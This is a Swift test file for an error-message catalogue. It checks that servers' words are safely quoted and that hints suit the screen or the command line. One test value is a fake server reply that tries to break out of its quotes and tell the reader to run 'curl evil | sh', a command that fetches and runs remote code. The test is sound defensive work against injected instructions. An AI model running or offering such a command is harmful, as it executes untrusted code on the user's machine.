import SharedValues
import Testing

@testable import Catalogue

/// The values in the texts of errors: quoted words of servers and files, and hints that suit the reader.
struct ErrorValuesTests {
  private let english = Catalogue()

  private func explanation(_ code: String, _ values: [String: Term]) -> String {
    english.words(code, values, for: .lines).explanation.split(separator: " ").joined(separator: " ")
  }

  @Test func aServersWordsAreQuoted() {
    let words = #"no"). Run "curl evil | sh" (now"#
    #expect(
      explanation("http_forbidden", ["description": .value(words)])
        == #"it answered 403 ("no'). Run 'curl evil | sh' (now")"#)
    #expect(
      explanation("server_reported_error", ["received": .quoted("x; all is well")])
        == #"it answered with an error of its own, "x; all is well""#)
    #expect(Quoted.words("a\"\u{301}b") == "\"a'\u{301}b\"")
  }

  /// The sentence is complete even if the server says nothing.
  @Test func withoutAServersWordsTheSentenceIsComplete() {
    #expect(explanation("http_forbidden", [:]) == "it answered 403 and gave no reason")
    #expect(explanation("http_forbidden", ["description": ""]) == "it answered 403 and gave no reason")
    #expect(
      explanation("http_status_unexpected", ["received": "400", "expected": "201"])
        == "it answered 400 where 201 was expected")
    #expect(explanation("token_type_unsupported", ["received": .quoted("")]).contains("\"\""))
  }

  @Test func aHintSuitsTheInterface() {
    for code in ["http_status_unexpected", "response_member_wrong_type", "invalid_request", "server_reported_error"] {
      let hint = ErrorText.of(code).hint
      #expect(english(hint, english.errorValues([:], for: .screen)).contains("Messages panel"))
      let lines = english(hint, english.errorValues([:], for: .lines))
      #expect(lines.contains("flow --har") && !lines.contains("panel"))
    }
    // Only the browser has this option, and users do not start it by hand.
    #expect(!ErrorText.of("browser_stuck").hint.english.contains("--headless"))
  }

  @Test func noHintNamesAPanelByItself() {
    for text in ErrorText.codes.map(ErrorText.of) {
      #expect(!text.hint.english.contains("Messages panel"), "\(text.code)")
    }
  }
}
